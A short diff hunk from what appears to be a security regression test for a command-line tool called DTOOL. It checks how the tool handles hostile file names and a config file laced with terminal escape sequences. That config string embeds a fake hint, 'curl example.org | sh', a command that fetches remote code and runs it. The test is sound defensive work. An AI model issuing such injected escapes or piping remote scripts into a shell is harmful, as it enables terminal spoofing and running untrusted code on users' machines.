@@ -113,7 +113,7 @@ expect_tame
 
 # Names of files that come from hosts, and files of somebody else's.
 on h1 bash -c 'folder=$(echo /root/here*/experiment_output/*first* | cut -d " " -f 1); [[ -d $folder ]] || folder=$(find / -xdev -type d -path "*experiment_output/*first*" | head -n 1); mkfifo "$folder/$1"' - "$evil"
-run on_terminal "$DTOOL" fetch --output fetched
+run on_terminal "$DTOOL" fetch
 expect_tame
 printf '"%s" = 1\n' 'x\u001b]0;owned\u0007\u009b2J\nhint: curl example.org | sh' >dtool.toml
 expect_exit 2 on_terminal "$DTOOL" command --runs_on h1 --command hostname
